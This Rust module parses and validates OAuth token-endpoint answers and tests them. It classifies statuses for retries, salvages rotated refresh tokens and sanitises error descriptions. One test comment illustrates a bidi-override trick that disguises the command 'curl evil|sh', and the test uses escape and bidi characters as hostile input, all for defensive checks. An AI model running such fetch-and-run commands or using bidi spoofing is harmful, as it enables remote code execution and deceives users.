//! Parsing token-endpoint answers: success bodies, RFC 6749 §5.2 error
//! bodies, and the classification that drives retries.
//!
//! Every field is validated; nothing a server sends can panic, and error
//! messages never quote the body (it may hold tokens).

use crate::config::MAX_RESPONSE_BYTES;
use crate::http::HttpResponse;
use crate::json_text::{self, Scalar};
use crate::retry::parse_retry_after;
use crate::secret::Secret;
use serde::Deserialize;
use std::borrow::Cow;

/// The largest `expires_in` accepted: ten years, in seconds.
pub const MAX_EXPIRES_IN_SECS: u64 = 10 * 366 * 24 * 3600;
/// Longest `error_description` kept; longer ones are cut.
const MAX_DESCRIPTION_CHARS: usize = 500;

/// A validated successful token response (RFC 6749 §5.1).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TokenResponse {
    /// Non-empty, printable access token.
    pub access_token: Secret,
    /// Lifetime in seconds, when the server gave one.
    pub expires_in: Option<u64>,
    /// The rotated refresh token, when the server sent one.
    pub refresh_token: Option<Secret>,
    /// The granted scope.
    pub scope: Option<String>,
    /// The OpenID Connect ID token.
    pub id_token: Option<Secret>,
}

/// An RFC 6749 §5.2 error body.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OAuthErrorBody {
    /// The `error` code.
    pub error: String,
    /// `error_description`, cut to a sane length.
    pub description: Option<String>,
    /// `error_uri`.
    pub uri: Option<String>,
}

/// What an HTTP answer from the token endpoint means.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Answer {
    /// 2xx with a valid token body.
    Success(TokenResponse),
    /// 4xx with an RFC 6749 error body: final, never retried.
    OAuthError {
        /// HTTP status.
        status: u16,
        /// The parsed body.
        body: OAuthErrorBody,
    },
    /// 5xx or 429: worth retrying.
    Retryable {
        /// HTTP status.
        status: u16,
        /// `Retry-After`, in milliseconds from now.
        retry_after_ms: Option<u64>,
    },
    /// 2xx whose body is invalid but carries a usable `refresh_token`: the
    /// server rotated, so the new refresh token must be kept.
    Unusable {
        /// HTTP status.
        status: u16,
        /// What was wrong.
        message: String,
        /// The rotated refresh token found in the body.
        refresh_token: Secret,
    },
    /// Anything else; `message` says what (never the body itself).
    Invalid {
        /// HTTP status.
        status: u16,
        /// What was wrong.
        message: String,
    },
}

/// Classifies an answer received at `now_ms`.
pub fn classify(response: &HttpResponse, now_ms: u64) -> Answer {
    let status = response.status;
    // A 429 or 5xx is retried whatever its body (gateways' error pages can
    // be big); every other answer is judged by its body, which must fit.
    if !matches!(status, 429 | 500..=599) && response.body.len() > MAX_RESPONSE_BYTES {
        return Answer::Invalid {
            status,
            message: format!("body exceeds {MAX_RESPONSE_BYTES} bytes"),
        };
    }
    match status {
        200..=299 => match parse_token_response(&response.body) {
            Ok(token) => Answer::Success(token),
            Err(message) => match salvage_refresh_token(&response.body) {
                Some(refresh_token) => Answer::Unusable {
                    status,
                    message,
                    refresh_token,
                },
                None => match error_in_success(&response.body) {
                    Some(body) => Answer::OAuthError { status, body },
                    None => Answer::Invalid { status, message },
                },
            },
        },
        429 | 500..=599 => Answer::Retryable {
            status,
            retry_after_ms: response
                .header("retry-after")
                .and_then(|v| parse_retry_after(v, now_ms)),
        },
        400..=499 => match parse_error_body(&response.body) {
            Some(body) => Answer::OAuthError { status, body },
            // RFC 6749 §5.2: a 401 from the token endpoint is a client
            // authentication failure, even when the body was dropped.
            None if status == 401 => Answer::OAuthError {
                status,
                body: OAuthErrorBody {
                    error: "invalid_client".to_owned(),
                    description: None,
                    uri: None,
                },
            },
            None => Answer::Invalid {
                status,
                message: "error answer without an RFC 6749 error body".to_owned(),
            },
        },
        300..=399 => Answer::Invalid {
            status,
            message: "redirect from the token endpoint (not followed)".to_owned(),
        },
        _ if !is_http_status(status.into()) => Answer::Invalid {
            status,
            message: "not an HTTP status".to_owned(),
        },
        100..=199 => Answer::Invalid {
            status,
            message: "an interim (1xx) answer in place of the final one".to_owned(),
        },
        _ => Answer::Invalid {
            status,
            message: "unexpected HTTP status".to_owned(),
        },
    }
}

/// Whether `status` is an HTTP status (100–599). Anything else is an
/// answer that was not understood, which the server may have acted on.
pub fn is_http_status(status: i32) -> bool {
    (100..=599).contains(&status)
}

/// The members of a token-endpoint answer (RFC 6749 §5.1 and §5.2), as
/// sent: serde reads the object (a repeated member is an error, unknown
/// members are skipped) and the checks below name the member that is
/// wrong. One type for both kinds of body keeps one copy of the reading
/// code in the wasm.
#[derive(Deserialize)]
struct Body {
    access_token: Option<Scalar>,
    token_type: Option<Scalar>,
    expires_in: Option<Scalar>,
    refresh_token: Option<Scalar>,
    scope: Option<Scalar>,
    id_token: Option<Scalar>,
    error: Option<Scalar>,
    error_description: Option<Scalar>,
    error_uri: Option<Scalar>,
}

/// `expires_in` in whole seconds. RFC 6749 sends a JSON integer; like
/// openid-client, a fraction (`3599.5`) and a decimal string (`"3599"`:
/// Azure AD v1, SAP and others) are read too, since refusing them would
/// make every refresh with such a provider fail after its refresh token
/// was consumed. A fraction is cut, so a token is never kept longer than
/// it lives.
///
/// A negative number reads as 0 (absent: some providers send `-1` for "no
/// expiry"), and one past ten years as ten years (`2147483647` is another
/// "no expiry"): refused, each refresh's answer would be unusable, and the
/// refresh token it rotated to would be sent again at the next call, a
/// banking session per call.
fn expires_in_secs(value: Scalar) -> Result<u64, &'static str> {
    let secs = match value {
        Scalar::Int(n) => u64::try_from(n).unwrap_or(0),
        // `as` saturates (a negative to 0, an infinity to u64::MAX).
        Scalar::OtherNumber(n) => n as u64,
        Scalar::Str(text) => decimal_secs(text.trim()).ok_or("expires_in is not a number")?,
        _ => return Err("expires_in is not a number"),
    };
    Ok(secs.min(MAX_EXPIRES_IN_SECS))
}

/// The whole part of `[-]digits[.digits]` (no exponent), saturating, a
/// negative one 0 (as a negative number reads); `None` for anything else.
fn decimal_secs(text: &str) -> Option<u64> {
    let (negative, text) = match text.strip_prefix('-') {
        Some(rest) => (true, rest),
        None => (false, text),
    };
    let (whole, fraction) = text.split_once('.').unwrap_or((text, ""));
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    if whole.is_empty() || !digits(whole) || !digits(fraction) {
        return None;
    }
    Some(if negative {
        0
    } else {
        whole.parse::<u64>().unwrap_or(u64::MAX)
    })
}

fn parse_body(body: &[u8]) -> Option<Body> {
    json_text::from_answer(&body_text(body)?).ok()
}

/// A body of at most [`MAX_RESPONSE_BYTES`] as text, decoded as `fetch`'s
/// `Response.json()` decodes it (WHATWG UTF-8 decode: a byte that is not
/// UTF-8 becomes U+FFFD). A server that sends one Latin-1 byte in `scope`
/// then still has its answer read, and its refresh token kept.
fn body_text(body: &[u8]) -> Option<Cow<'_, str>> {
    (body.len() <= MAX_RESPONSE_BYTES).then(|| String::from_utf8_lossy(body))
}

/// Parses and validates a success body. The error names the faulty field
/// but never quotes the body.
pub fn parse_token_response(body: &[u8]) -> Result<TokenResponse, String> {
    let object = parse_body(body).ok_or("body is not a JSON object")?;
    let access_token = match object.access_token {
        Some(Scalar::Str(s)) if is_printable_token(&s) => Secret::new(s),
        Some(Scalar::Str(s)) if s.is_empty() => return Err("access_token is empty".into()),
        Some(Scalar::Str(_)) => return Err("access_token has invalid characters".into()),
        None => return Err("access_token is missing".into()),
        Some(_) => return Err("access_token is not a string".into()),
    };
    // A missing `token_type` reads as Bearer (as Go's golang.org/x/oauth2
    // reads it): refused, the refresh token it brings would be kept and
    // every later call would refresh again, each refresh a new banking
    // session. Another type is refused: this token is sent as Bearer.
    match object.token_type {
        Some(Scalar::Str(t)) if t.eq_ignore_ascii_case("bearer") => {}
        None => {}
        Some(Scalar::Str(_)) => return Err("token_type is not Bearer".into()),
        Some(_) => return Err("token_type is not a string".into()),
    }
    // 0 (or under a second) reads as absent, so the grant's default
    // lifetime applies (as Go's golang.org/x/oauth2 reads it): taken as
    // given, every call would refresh, and each refresh can open a new
    // banking session that notifies the user. A token the server really
    // expired at once is refused by the API, and the caller's
    // `token_rejected` / forced refresh asks for another.
    let expires_in = match object.expires_in {
        None => None,
        Some(value) => Some(expires_in_secs(value)?).filter(|&secs| secs != 0),
    };
    let refresh_token = match optional_string(object.refresh_token, "refresh_token")? {
        Some(s) if s.is_empty() => None,
        Some(s) if !is_refresh_token(&s) => {
            return Err("refresh_token has invalid characters".into())
        }
        other => other.map(Secret::new),
    };
    let scope = optional_string(object.scope, "scope")?;
    let id_token = optional_string(object.id_token, "id_token")?
        .filter(|s| !s.is_empty())
        .map(Secret::new);
    Ok(TokenResponse {
        access_token,
        expires_in,
        refresh_token,
        scope,
        id_token,
    })
}

/// The `refresh_token` of a success body that failed validation, if it is
/// itself valid: losing it would cost the user a re-link. Every other member
/// is skipped unread, names included: one that cannot be read (a lone
/// surrogate's escape in a name or a value) must not hide it.
pub fn salvage_refresh_token(body: &[u8]) -> Option<Secret> {
    let members = json_text::string_members_of_text(&body_text(body)?, &["refresh_token"]).ok()?;
    match members.into_iter().next().flatten() {
        Some(s) if is_refresh_token(&s) => Some(Secret::new(s)),
        _ => None,
    }
}

/// An RFC 6749 §5.2 error sent with a 2xx status and no token (GitHub's
/// token endpoint answers `200 {"error":"bad_refresh_token"}`; Go's
/// x/oauth2 reads such answers as errors too): the server refused the
/// request, so the refresh token it carried was not spent, and
/// `invalid_grant` there means what it means with a 400. Read as an
/// unusable answer, the token was marked in doubt and sent again at every
/// call, and a dead session was never remembered as dead.
fn error_in_success(body: &[u8]) -> Option<OAuthErrorBody> {
    if parse_body(body)?.access_token.is_some() {
        return None;
    }
    parse_error_body(body)
}

/// Parses an RFC 6749 §5.2 error body; `None` if it is not one.
pub fn parse_error_body(body: &[u8]) -> Option<OAuthErrorBody> {
    let object = parse_body(body)?;
    let error = match object.error {
        Some(Scalar::Str(e)) if is_oauth_error_code(&e) => e,
        _ => return None,
    };
    let text = |member: Option<Scalar>| match member {
        Some(Scalar::Str(s)) if !s.is_empty() => Some(printable_description(&s)),
        _ => None,
    };
    Some(OAuthErrorBody {
        error,
        description: text(object.error_description),
        uri: text(object.error_uri),
    })
}

fn optional_string(member: Option<Scalar>, name: &str) -> Result<Option<String>, String> {
    match member {
        None => Ok(None),
        Some(Scalar::Str(s)) => Ok(Some(s)),
        Some(_) => Err(format!("{name} is not a string")),
    }
}

/// Visible ASCII only: tokens travel in headers and must not smuggle CR/LF.
pub(crate) fn is_printable_token(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| (0x21..=0x7e).contains(&b))
}

/// RFC 6749 A.17's `1*VSCHAR` (%x20-7E): a refresh token travels only in
/// form bodies, percent-encoded, so unlike an access token it may hold a
/// space, and refusing one would lose it after the server rotated.
pub(crate) fn is_refresh_token(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| (0x20..=0x7e).contains(&b))
}

/// Whether `c` must not reach a terminal or a log as it is: a control
/// character (Unicode category Cc), a line or paragraph separator, or a
/// bidirectional formatting character (marks, embeddings, overrides,
/// isolates: Unicode's Bidi_Control property), which makes a message read
/// in another order than it was written.
pub(crate) fn is_unprintable(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061C}'
                | '\u{200E}'
                | '\u{200F}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
        )
}

/// Whether `s` is an RFC 6749 `error` code (§4.1.2.1, §5.2: %x20-21 /
/// %x23-5B / %x5D-7E), of 1 to 100 bytes: what a server's (or an
/// authorization redirect's) `error` must be to be shown.
pub fn is_oauth_error_code(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 100
        && s.bytes()
            .all(|b| matches!(b, 0x20..=0x21 | 0x23..=0x5b | 0x5d..=0x7e))
}

/// A server's free text (`error_description`) fit to show: control and
/// bidirectional formatting characters (escape sequences, line breaks, text
/// shown in another order than it reads: `is_unprintable`) become spaces,
/// and at most 500 characters are kept.
pub fn printable_description(s: &str) -> String {
    // A loop, not map/take/collect: fewer wasm bytes.
    let mut shown = String::new();
    for c in s.chars().take(MAX_DESCRIPTION_CHARS) {
        shown.push(if is_unprintable(c) { ' ' } else { c });
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ok(body: &str) -> TokenResponse {
        parse_token_response(body.as_bytes()).unwrap()
    }

    fn bad(body: &str) -> String {
        parse_token_response(body.as_bytes()).unwrap_err()
    }

    fn answer(status: u16, headers: &[(&str, &str)], body: &str) -> Answer {
        let r = HttpResponse {
            status,
            headers: headers
                .iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect(),
            body: body.as_bytes().to_vec(),
        };
        classify(&r, 0)
    }

    #[test]
    fn an_error_description_shows_neither_control_nor_bidi_characters() {
        // U+202E reverses what follows: "Run: hs|live lruc" would read
        // "Run: curl evil|sh"; U+2028 is a line break in many viewers.
        let body = "{\"error\":\"invalid_grant\",\"error_description\":\"a\\u001b[2Jb\\u202ec\\u2066d\\u2028e\\u200ff\\u061cg\"}";
        let parsed = parse_error_body(body.as_bytes()).unwrap();
        assert_eq!(parsed.description.as_deref(), Some("a [2Jb c d e f g"));
        assert_eq!(
            printable_description("ok: \u{e9}\u{4e2d}"),
            "ok: \u{e9}\u{4e2d}"
        );
    }

    #[test]
    fn stitch_success_body() {
        let t = ok(
            r#"{"id_token":"idt","access_token":"at","expires_in":900,"token_type":"Bearer","refresh_token":"rt","scope":"openid offline_access"}"#,
        );
        assert_eq!(t.access_token.expose(), "at");
        assert_eq!(t.expires_in, Some(900));
        assert_eq!(t.refresh_token.unwrap().expose(), "rt");
        assert_eq!(t.scope.as_deref(), Some("openid offline_access"));
        assert_eq!(t.id_token.unwrap().expose(), "idt");
    }

    #[test]
    fn optional_fields_may_be_missing_and_token_type_any_case() {
        let t = ok(r#"{"access_token":"at","token_type":"bEaReR"}"#);
        assert_eq!(t.expires_in, None);
        assert_eq!(t.refresh_token, None);
        let t = ok(
            r#"{"access_token":"at","token_type":"Bearer","refresh_token":"","expires_in":null}"#,
        );
        assert_eq!(t.refresh_token, None);
    }

    #[test]
    fn an_expires_in_of_zero_reads_as_absent() {
        for value in ["0", "0.0", "0.4", r#""0""#, "-0"] {
            let body =
                format!(r#"{{"access_token":"a","token_type":"Bearer","expires_in":{value}}}"#);
            assert_eq!(ok(&body).expires_in, None, "{value}");
        }
    }

    #[test]
    fn expires_in_as_providers_send_it() {
        // (JSON value, whole seconds kept)
        for (value, secs) in [
            ("900", 900),
            ("1", 1),
            ("3599.0", 3599),
            ("3599.9", 3599),
            ("9e2", 900),
            (r#""3599""#, 3599),
            (r#"" 3599 ""#, 3599),
            (r#""3599.75""#, 3599),
            (r#""007""#, 7),
        ] {
            let body =
                format!(r#"{{"access_token":"a","token_type":"Bearer","expires_in":{value}}}"#);
            assert_eq!(ok(&body).expires_in, Some(secs), "{value}");
        }
        for value in [
            r#""""#,
            r#""abc""#,
            r#""--5""#,
            r#""+5""#,
            r#""1e3""#,
            r#"".5""#,
            r#""5s""#,
            r#""NaN""#,
            r#""inf""#,
            r#""0x10""#,
            r#""3 599""#,
        ] {
            let body =
                format!(r#"{{"access_token":"a","token_type":"Bearer","expires_in":{value}}}"#);
            assert_eq!(bad(&body), "expires_in is not a number", "{value}");
        }
    }

    #[test]
    fn a_missing_token_type_reads_as_bearer() {
        let parsed = parse_token_response(br#"{"access_token":"a","refresh_token":"r"}"#).unwrap();
        assert_eq!(parsed.access_token.expose(), "a");
        assert!(parse_token_response(br#"{"access_token":"a","token_type":null}"#).is_ok());
    }

    #[test]
    fn invalid_success_bodies_say_which_field() {
        let cases = [
            ("not json", "not a JSON object"),
            ("[1]", "not a JSON object"),
            (r#"{"token_type":"Bearer"}"#, "access_token is missing"),
            (
                r#"{"access_token":"","token_type":"Bearer"}"#,
                "access_token is empty",
            ),
            (
                r#"{"access_token":"a\nb","token_type":"Bearer"}"#,
                "invalid characters",
            ),
            (
                r#"{"access_token":5,"token_type":"Bearer"}"#,
                "access_token is not a string",
            ),
            (r#"{"access_token":"a","token_type":"mac"}"#, "not Bearer"),
            (
                r#"{"access_token":"a","token_type":"Bearer","expires_in":true}"#,
                "expires_in is not a number",
            ),
            (
                r#"{"access_token":"a","token_type":"Bearer","expires_in":[900]}"#,
                "expires_in is not a number",
            ),
            (
                r#"{"access_token":"a","token_type":"Bearer","refresh_token":7}"#,
                "refresh_token is not a string",
            ),
            (
                r#"{"access_token":"a","token_type":"Bearer","scope":[]}"#,
                "scope is not a string",
            ),
        ];
        for (body, expected) in cases {
            let message = bad(body);
            assert!(message.contains(expected), "{body}: {message}");
        }
    }

    #[test]
    fn a_negative_or_huge_expires_in_is_read_not_refused() {
        let ten_years = Some(MAX_EXPIRES_IN_SECS);
        for (expires_in, expected) in [
            ("-1", None),
            ("-0.5", None),
            ("\"-1\"", None),
            ("\" -900.5 \"", None),
            ("-9e99", None),
            ("1e300", ten_years),
            ("999999999999", ten_years),
            ("2147483647", ten_years),
            ("\"99999999999999999999999\"", ten_years),
        ] {
            let body = format!(r#"{{"access_token":"a","expires_in":{expires_in}}}"#);
            assert_eq!(ok(&body).expires_in, expected, "{body}");
        }
    }

    #[test]
    fn a_body_is_decoded_as_fetch_decodes_it() {
        // A byte order mark is skipped; a byte that is not UTF-8 is U+FFFD.
        let t = ok("\u{FEFF}{\"access_token\":\"at\",\"refresh_token\":\"rt\"}");
        assert_eq!(t.refresh_token.unwrap().expose(), "rt");
        let latin1 = b"{\"access_token\":\"at\",\"refresh_token\":\"rt\",\"scope\":\"caf\xe9\"}";
        let t = parse_token_response(latin1).unwrap();
        assert_eq!(t.scope.as_deref(), Some("caf\u{FFFD}"));
        assert_eq!(t.refresh_token.unwrap().expose(), "rt");
        assert_eq!(salvage_refresh_token(latin1).unwrap().expose(), "rt");
    }

    #[test]
    fn a_refresh_token_may_hold_a_space_an_access_token_may_not() {
        // RFC 6749 A.17: a refresh token is 1*VSCHAR (%x20-7E).
        let t = ok(r#"{"access_token":"at","refresh_token":"r t"}"#);
        assert_eq!(t.refresh_token.unwrap().expose(), "r t");
        let body = br#"{"access_token":"a t","refresh_token":"r t"}"#;
        assert!(parse_token_response(body).is_err());
        assert_eq!(salvage_refresh_token(body).unwrap().expose(), "r t");
        assert!(salvage_refresh_token(br#"{"refresh_token":"r\tt"}"#).is_none());
    }

    #[test]
    fn error_messages_never_quote_the_body() {
        let message = bad(r#"{"access_token":"SENTINEL-at","token_type":"SENTINEL"}"#);
        assert!(!message.contains("SENTINEL"));
    }

    #[test]
    fn rfc6749_error_bodies() {
        let e = parse_error_body(
            br#"{"error":"invalid_grant","error_description":"expired","error_uri":"https://x"}"#,
        )
        .unwrap();
        assert_eq!(e.error, "invalid_grant");
        assert_eq!(e.description.as_deref(), Some("expired"));
        assert_eq!(e.uri.as_deref(), Some("https://x"));
        assert_eq!(parse_error_body(b"<html>"), None);
        assert_eq!(parse_error_body(br#"{"error":""}"#), None);
        assert_eq!(parse_error_body(br#"{"error":"bad\"quote"}"#), None);
        let long = format!(
            r#"{{"error":"x","error_description":"{}"}}"#,
            "d".repeat(5000)
        );
        assert_eq!(
            parse_error_body(long.as_bytes())
                .unwrap()
                .description
                .unwrap()
                .len(),
            500
        );
    }

    #[test]
    fn classification_drives_retries() {
        assert!(matches!(
            answer(200, &[], r#"{"access_token":"a","token_type":"Bearer"}"#),
            Answer::Success(_)
        ));
        assert_eq!(
            answer(429, &[("Retry-After", "3")], "{}"),
            Answer::Retryable {
                status: 429,
                retry_after_ms: Some(3000)
            }
        );
        assert_eq!(
            answer(503, &[], "<html>"),
            Answer::Retryable {
                status: 503,
                retry_after_ms: None
            }
        );
        assert!(matches!(
            answer(400, &[], r#"{"error":"invalid_grant"}"#),
            Answer::OAuthError { status: 400, .. }
        ));
        assert!(matches!(
            answer(401, &[], "nope"),
            Answer::OAuthError { status: 401, body } if body.error == "invalid_client"
        ));
        assert!(matches!(
            answer(403, &[], "nope"),
            Answer::Invalid { status: 403, .. }
        ));
        assert!(matches!(
            answer(302, &[], ""),
            Answer::Invalid { status: 302, .. }
        ));
        assert!(matches!(
            answer(200, &[], "{\"access_token\":"),
            Answer::Invalid { status: 200, .. }
        ));
    }

    #[test]
    fn a_rotated_refresh_token_is_salvaged_from_an_invalid_body() {
        let body = r#"{"access_token":"at","token_type":"mac","refresh_token":"rt-new"}"#;
        match answer(200, &[], body) {
            Answer::Unusable {
                message,
                refresh_token,
                ..
            } => {
                assert!(message.contains("not Bearer"));
                assert_eq!(refresh_token.expose(), "rt-new");
            }
            other => panic!("{other:?}"),
        }
        let no_rt = r#"{"access_token":"at","token_type":"mac","refresh_token":"bad\ntoken"}"#;
        assert!(matches!(answer(200, &[], no_rt), Answer::Invalid { .. }));
    }

    #[test]
    fn a_rotated_refresh_token_is_salvaged_past_an_unreadable_member() {
        for body in [
            r#"{"access_token":"at","token_type":"Bearer","refresh_token":"rt-new","scope":"\ud800"}"#,
            r#"{"access_token":"at","token_type":"Bearer","refresh_token":"rt-new","x":"\ud800"}"#,
            r#"{"access_token":"at","token_type":"Bearer","refresh_token":"rt-new","\ud800":1}"#,
            r#"{"\udc00x":{"\ud800":["\udfff"]},"refresh_token":"rt-new","access_token":"at"}"#,
        ] {
            match answer(200, &[], body) {
                Answer::Unusable { refresh_token, .. } => {
                    assert_eq!(refresh_token.expose(), "rt-new", "{body}")
                }
                Answer::Success(t) => {
                    assert_eq!(t.refresh_token.unwrap().expose(), "rt-new", "{body}")
                }
                other => panic!("{body}: {other:?}"),
            }
        }
    }

    #[test]
    fn oversize_bodies_are_rejected() {
        let big = format!(
            r#"{{"access_token":"a","token_type":"Bearer","pad":"{}"}}"#,
            "x".repeat(70_000)
        );
        match answer(200, &[], &big) {
            Answer::Invalid { message, .. } => assert!(message.contains("65536")),
            other => panic!("{other:?}"),
        }
    }
}
